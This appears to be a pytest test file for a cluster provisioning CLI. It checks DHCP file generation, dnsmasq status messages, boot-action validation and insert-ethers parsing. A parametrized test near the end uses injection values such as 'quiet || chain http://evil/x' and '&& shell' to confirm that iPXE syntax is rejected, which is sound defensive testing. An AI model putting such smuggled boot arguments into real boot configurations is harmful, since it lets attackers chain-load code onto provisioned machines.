"""The DHCP and provisioning commands as an administrator types them, and their bad input."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest

from flightdeck.cli import insert_ethers
from flightdeck.errors import UsageError


@pytest.fixture
def site(espresso: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("FLIGHTDECK_HOME", str(tmp_path))
    return espresso


def test_report_host_dhcp_prints_three_files(site: Any, tmp_path: Path) -> None:
    out = site.ok("report", "host", "dhcp")
    files = [ln.split()[-1] for ln in out.splitlines() if ln.startswith("# file ")]
    assert files == [str(tmp_path / "dhcp" / n) for n in ("dnsmasq.conf", "hosts", "opts")]
    assert "interface=eth0\n" in out  # the frontend's private device
    assert "52:54:00:fd:00:01,10.1.255.254,vm-container-0-0,infinite\n" in out
    assert "tag:private,option:router,10.1.1.1\n" in out
    assert "interface=br0\n" in site.ok("report", "host", "dhcp", "interface=br0")
    assert not (tmp_path / "dhcp").exists()  # a report writes nothing


def test_sync_dhcp_then_no_change(site: Any, tmp_path: Path) -> None:
    out = site.ok("sync", "dhcp")
    assert out.splitlines() == [
        f"dhcp: wrote {tmp_path}/dhcp/hosts, {tmp_path}/dhcp/opts; 2 fixed lease(s)",
        "dhcp: dnsmasq is not running",
    ]
    assert site.ok("sync", "dhcp") == "dhcp: no change (2 fixed lease(s))\n"


def test_service_not_running(site: Any) -> None:
    r = site("report", "service", "dhcp")
    assert r.code == 3 and r.err.startswith("error - the DHCP service is not running")
    r = site("stop", "service", "dhcp")
    assert r.code == 3 and "not running" in r.err


def test_start_in_a_missing_namespace_is_refused_and_nothing_runs(site: Any) -> None:
    site.refused(
        "start", "service", "dhcp", "netns=fd-no-such-ns",
        says="network namespace 'fd-no-such-ns' does not exist: ip netns add fd-no-such-ns",
    )  # fmt: skip
    assert site("report", "service", "dhcp").code == 3


def test_boot_actions_naming_missing_files_are_refused(site: Any, tmp_path: Path) -> None:
    missing = tmp_path / "nope" / "vmlinuz"
    site.refused(
        "add", "bootaction", "action=install debian", f"kernel={missing}",
        says=f"boot action 'install debian': kernel {missing} does not exist on this frontend",
    )  # fmt: skip
    site.refused(
        "set", "bootaction", "action=install", f"ramdisk={missing}",
        says=f"boot action 'install': ramdisk {missing} does not exist",
    )  # fmt: skip
    # URLs are iPXE's to fetch, and the virtual frontend's files are on its container.
    site.ok("add", "bootaction", "action=install debian", "kernel=http://mirror/linux")
    site.ok("set", "bootaction", "action=install vm frontend", f"kernel={missing}")
    kernel = tmp_path / "vmlinuz"
    kernel.write_bytes(b"k")
    site.ok("set", "bootaction", "action=install", f"kernel={kernel}")


def test_set_host_boot_install_refuses_a_missing_kernel(site: Any, tmp_path: Path) -> None:
    site.ok("set", "host", "boot", "vm-container-0-0", "action=install")  # no kernel: allowed
    kernel = tmp_path / "vmlinuz"
    kernel.write_bytes(b"k")
    site.ok("set", "bootaction", "action=install", f"kernel={kernel}")
    site.ok("set", "host", "boot", "vm-container-0-1", "action=os")
    kernel.unlink()
    site.refused(
        "set", "host", "boot", "vm-container-0-1", "action=install",
        says=f"boot action 'install': kernel {kernel} does not exist on this frontend",
    )  # fmt: skip
    site.ok("set", "host", "boot", "vm-container-0-1", "action=os")


def test_insert_ethers_arguments() -> None:
    assert insert_ethers.parse(["appliance=VM Container", "rack=1", "rank=2"]) == {
        "appliance": "VM Container", "rack": "1", "rank": "2",
    }  # fmt: skip
    assert insert_ethers.parse(["--remove", "compute-0-0"]) == {"remove": "compute-0-0"}
    assert insert_ethers.parse(["--remove=compute-0-0"]) == {"remove": "compute-0-0"}
    assert insert_ethers.parse(["--membership=Compute"]) == {"appliance": "Compute"}
    with pytest.raises(UsageError, match="unknown parameter 'colour'"):
        insert_ethers.parse(["colour=blue"])
    with pytest.raises(UsageError, match="--remove needs the name of a host"):
        insert_ethers.parse(["--remove"])
    with pytest.raises(UsageError, match="log= is gone: insert-ethers hears dnsmasq's discovery"):
        insert_ethers.parse(["log=/var/log/dnsmasq.log"])


def test_insert_ethers_without_dnsmasq_says_how_to_start_it(
    site: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    out = io.StringIO()
    assert insert_ethers.main(["appliance=Compute"], out) == 1
    assert capsys.readouterr().err == (
        "error - dnsmasq is not running, so no DHCP request can be seen: rocks start service dhcp\n"
    )
    assert insert_ethers.main(["appliance=Toaster"], out) == 1
    assert "membership 'Toaster' is not valid" in capsys.readouterr().err


def test_insert_ethers_remove_is_audited(site: Any, tmp_path: Path) -> None:
    out = io.StringIO()
    assert insert_ethers.main(["--remove", "vm-container-0-1"], out) == 0
    assert (
        out.getvalue() == "removed vm-container-0-1; 1 fixed lease(s) left, dnsmasq is not "
        "running (rocks start service dhcp starts it with these leases)\n"
    )
    assert "vm-container-0-1" not in site.ok("list", "host")
    log = tmp_path / "dhcp" / "insert-ethers.log"
    line = log.read_text().splitlines()[-1]
    assert line.endswith(" remove host=vm-container-0-1 mac=52:54:00:fd:00:02 ip=10.1.255.253")
    assert " uid=0 " in line and oct(log.stat().st_mode & 0o777) == "0o600"


def test_insert_ethers_says_dnsmasq_reloaded_only_when_it_was() -> None:
    """Issue 15: with no dnsmasq running, insert-ethers must not say it reloaded one."""
    from flightdeck.services.dhcp import SyncResult

    assert insert_ethers.sync_note(SyncResult(3, [Path("hosts")], None)) == (
        "dnsmasq is not running (rocks start service dhcp starts it with these leases)"
    )
    assert insert_ethers.sync_note(SyncResult(3, [], None)) == (
        "dnsmasq's leases were already up to date"
    )
    assert insert_ethers.sync_note(SyncResult(3, [Path("hosts")], 42)) == (
        "dnsmasq reloaded (pid 42)"
    )


def test_set_host_installaction_and_runaction(site: Any, tmp_path: Path) -> None:
    kernel = tmp_path / "linux"
    kernel.write_bytes(b"k")
    site.ok("add", "bootaction", "action=install debian", f"kernel={kernel}", "args=auto=true")
    site.ok("set", "host", "installaction", "vm-container-0-0", "action=install debian")
    site.ok("set", "host", "runaction", "vm-container-0-0", "os")
    rows = site.ok("list", "host", "vm-container-0-0", "output-col=runaction,installaction")
    assert rows.splitlines()[1].split() == ["os", "install", "debian"]
    site.refused(
        "set", "host", "installaction", "vm-container-0-0", "action=install nothing",
        says="no boot action 'install nothing': see rocks list bootaction",
    )  # fmt: skip
    site.refused(
        "set", "host", "installaction", "no-such-host", "action=install debian",
        says="unknown host 'no-such-host'",
    )  # fmt: skip
    # A row whose kernel went away is not handed to a host.
    kernel.unlink()
    site.refused(
        "set", "host", "installaction", "vm-container-0-1", "action=install debian",
        says=f"boot action 'install debian': kernel {kernel} does not exist on this frontend",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("field", "value", "says"),
    [
        ("args", "console=ttyS0 && shell", "'&&' is iPXE syntax"),
        ("args", "quiet || chain http://evil/x", "'||' is iPXE syntax"),
        ("args", "quiet # rest ignored", "'#' is iPXE syntax"),
        ("args", "x=${net0/ip}", "is iPXE syntax"),
        ("args", "a;b", "';' is iPXE syntax"),
        ("args", "quiet\nshell", "is iPXE syntax"),
        ("kernel", "http://mirror/linux#x", "'#' is iPXE syntax"),
        ("ramdisk", "http://mirror/initrd&&shell", "'&&' is iPXE syntax"),
        ("kernel", "http://mirror/linux x", "has white space"),
    ],
)
def test_boot_action_words_that_are_ipxe_syntax_are_refused(
    site: Any, field: str, value: str, says: str
) -> None:
    """Issue 14: boot-action arguments reached the iPXE kernel line verbatim."""
    kernel = [] if field == "kernel" else ["kernel=http://mirror/linux"]
    site.refused("add", "bootaction", "action=evil", *kernel, f"{field}={value}", says=says)
    site.refused("set", "bootaction", "action=install", f"{field}={value}", says=says)


def test_boot_action_names_that_are_ipxe_syntax_are_refused(site: Any) -> None:
    site.refused("add", "bootaction", "action=x && shell", "kernel=http://m/linux",
                 says="boot action name 'x && shell'")  # fmt: skip
